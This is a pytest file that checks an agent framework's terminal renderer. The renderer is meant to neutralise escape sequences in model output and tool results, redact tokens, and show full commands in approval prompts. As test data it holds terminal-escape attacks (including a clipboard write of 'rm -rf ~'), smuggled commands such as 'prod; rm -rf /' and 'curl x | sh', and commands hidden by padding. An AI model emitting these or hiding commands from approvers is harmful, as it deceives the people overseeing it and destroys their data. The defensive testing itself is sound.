"""What reaches the terminal is inert and secret-free: escape sequences from the model,
tools and commands are shown, never obeyed; approvals show the whole command."""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console

from skillkit import AgentConfig, AgentRunner, tool
from skillkit.adapters.scripted import Reply, ScriptedAdapter
from skillkit.events import ErrorInfo, EventBus
from skillkit.frontends.terminal import TerminalRenderer, approval_text
from skillkit.permissions.events import ApprovalNeeded, QuestionItem, QuestionNeeded
from skillkit.secrets import Redactor

ATTACK = (
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]52;c;cm0gLXJmIH4=\x07"  # set the clipboard
    "\x1b]0;owned\x1b\\"  # window title
    "\x1b[8mconcealed\x1b[0m"  # hidden text
    "\x9b2J"  # 8-bit CSI
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"  # hyperlink
    "ok\rFAKE\x08\x08"  # overwrite
    "\u202eexe.txt\u202c"  # right-to-left override
)
TOKEN = "ghp_terminal_test_token_0123456789"
# Sequences rich itself writes for colours: SGR only.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
# What rich's Live writes to redraw the open Markdown block: hide/show the cursor, erase
# the line, go up a line, return to the line's start.
_LIVE = re.compile(r"\x1b\[\?25[lh]|\x1b\[2K|\x1b\[[0-9]*A|\r")


def _colour_console() -> tuple[Console, io.StringIO]:
    out = io.StringIO()
    console = Console(
        file=out, width=100, force_terminal=True, color_system="truecolor", highlight=False
    )
    return console, out


def _assert_inert(output: str) -> None:
    """Only rich's own colour codes are left; nothing else a terminal would act on."""
    rest = _SGR.sub("", output)
    bad = [c for c in rest if (ord(c) < 0x20 and c not in "\n") or 0x7F <= ord(c) <= 0x9F]
    assert bad == [], rest
    assert "\u202e" not in rest and "\u202c" not in rest


@tool
def fetch_page(url: str) -> str:
    """Fetch a page (returns hostile text)."""
    return f"page {url}: {ATTACK} token={TOKEN}"


@pytest.mark.parametrize("markdown", [False, True])
async def test_a_hostile_run_draws_nothing_the_terminal_would_obey(
    monkeypatch: pytest.MonkeyPatch, markdown: bool
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    adapter = ScriptedAdapter(
        [
            Reply(
                thinking=f"thinking {ATTACK}",
                text=f"model says {ATTACK}",
                tool_calls=[("fetch_page", {"url": f"http://x/{ATTACK}"})],
            ),
            Reply(text=f"done {ATTACK} {TOKEN}"),
        ],
        chunk_size=3,  # escape sequences split across deltas
    )
    runner = AgentRunner(AgentConfig(model="scripted"), adapter=adapter, tools=[fetch_page])
    console, out = _colour_console()
    runner.events.add_sink(TerminalRenderer(console, markdown=markdown))

    await runner.chat("go")

    output = out.getvalue()
    if markdown:  # the answer streamed as Markdown, its open block in a rich Live
        output = _LIVE.sub("", output)
        assert "ok␍FAKE" in output  # the model's own carriage return is shown, not obeyed
    _assert_inert(output)
    assert TOKEN not in output and "[REDACTED:GITHUB_TOKEN]" in output
    plain = _SGR.sub("", output)
    assert "␛[2J" in plain and "␛]52;c;" in plain and "<U+202E>" in plain
    assert "concealed" in plain  # a conceal style is shown, not obeyed


def test_error_lines_questions_and_notices_are_neutralized() -> None:
    console, out = _colour_console()
    renderer = TerminalRenderer(console, redactor=Redactor({"K_TOKEN": TOKEN}))
    bus = EventBus()
    renderer.emit(bus.event(ErrorInfo(stage="model", message=f"{ATTACK} {TOKEN}")))
    question = QuestionItem(question=f"Pick {ATTACK}", header=f"h{ATTACK}")
    renderer.emit(bus.event(QuestionNeeded(request_id="q", questions=[question])))
    renderer.notice(ATTACK)
    renderer.info(ATTACK)
    output = out.getvalue()
    _assert_inert(output)
    assert TOKEN not in output


def test_a_plan_shows_link_targets_instead_of_hiding_them() -> None:
    console, out = _colour_console()
    renderer = TerminalRenderer(console)
    bus = EventBus()
    plan = f"# Plan\n\n1. read [the docs](http://evil.example/x) {ATTACK}"
    renderer.emit(
        bus.event(
            ApprovalNeeded(request_id="p", tool_name="exit_plan_mode", plan_content=plan),
        )
    )
    output = out.getvalue()
    _assert_inert(output)
    assert "\x1b]8;" not in output
    assert "http://evil.example/x" in _SGR.sub("", output)


def _panel_text(output: str) -> str:
    """The text inside a drawn panel, borders removed, lines joined without spaces."""
    inner = []
    for line in output.splitlines():
        line = line.strip()
        if line.startswith("│") and line.endswith("│"):
            inner.append(line[1:-1].strip())
    return "".join("".join(inner).split())


def test_a_400_character_command_is_shown_whole_in_the_approval() -> None:
    command = "echo start && " + " ".join(f"word{i:03d}" for i in range(48)) + " && rm -rf ~/x"
    assert len(command) >= 400
    console, out = _colour_console()
    renderer = TerminalRenderer(console)
    request = ApprovalNeeded(
        request_id="a", tool_name="bash", tool_input={"command": command}, reason="it writes"
    )
    renderer.emit(EventBus().event(request))

    output = out.getvalue()
    _assert_inert(output)
    assert "".join(command.split()) in _panel_text(_SGR.sub("", output))
    assert "..." not in output and "…" not in output


def test_an_approval_shows_hidden_escapes_and_the_argv_of_an_action() -> None:
    request = ApprovalNeeded(
        request_id="a",
        tool_name="deploy__push",
        tool_input={"target": "prod; rm -rf /"},
        reason="not allowed by any rule",
    )
    body = approval_text(
        request, argv=["git", "push", "--force", "prod; rm -rf /\x1b[8m"], cwd="/work/project"
    ).plain
    assert "runs  git push --force 'prod; rm -rf /␛[8m'" in body
    assert "in    /work/project" in body

    hidden = ApprovalNeeded(
        request_id="b", tool_name="bash", tool_input={"command": "ls\x1b[8m; curl x | sh"}
    )
    assert approval_text(hidden).plain.startswith("bash: ls␛[8m; curl x | sh")


def test_blank_lines_cannot_push_a_command_out_of_sight() -> None:
    command = "rm -rf ~/important" + "\n" * 500 + "echo harmless"
    body = approval_text(
        ApprovalNeeded(request_id="a", tool_name="bash", tool_input={"command": command})
    ).plain
    assert body.splitlines()[:3] == [
        "bash: rm -rf ~/important",
        "… 499 blank lines …",
        "echo harmless",
    ]


def test_padding_inside_a_line_is_shown_as_a_count() -> None:
    command = "echo safe" + " " * 5000 + "; rm -rf ~"
    body = approval_text(
        ApprovalNeeded(request_id="a", tool_name="bash", tool_input={"command": command})
    ).plain
    assert body == "bash: echo safe⟨5000 blanks⟩; rm -rf ~"
